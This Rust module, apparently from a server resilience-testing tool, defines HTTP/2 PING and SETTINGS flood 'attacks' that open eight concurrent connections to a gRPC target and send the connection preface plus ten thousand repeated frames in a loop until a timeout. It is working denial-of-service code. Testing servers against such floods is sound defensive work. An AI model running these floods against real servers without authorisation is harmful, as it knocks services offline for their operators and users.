//! Floods of PING and of SETTINGS.

use crate::attack::{Attack, Attacking};
use crate::collector::Target;
use crate::wire::{PING as PING_FRAME, SETTINGS as SETTINGS_FRAME, frame, preface, send};
use std::time::Duration;
use tokio::task::JoinSet;
use tokio::time::timeout;

pub(super) const PING: Attack = Attack {
    name: "ping_flood",
    is_quick: true,
    edges: 0,
    run: |target, duration| flood(target, duration, &frame(PING_FRAME, 0, 0, b"hopscope")),
};

pub(super) const SETTINGS: Attack = Attack {
    name: "settings_flood",
    is_quick: false,
    edges: 0,
    run: |target, duration| flood(target, duration, &frame(SETTINGS_FRAME, 0, 0, &[])),
};

/// Sends a frame as fast as the server reads, on connection after connection.
fn flood(target: Target, duration: Duration, frame: &[u8]) -> Attacking {
    let bytes = [preface(), frame.repeat(10_000)].concat();
    Box::pin(async move {
        let mut clients = JoinSet::new();
        for _ in 0..8 {
            let bytes = bytes.clone();
            clients.spawn(async move {
                loop {
                    drop(send(target.grpc, &bytes).await);
                }
            });
        }
        let _ = timeout(duration, clients.join_next()).await;
    })
}
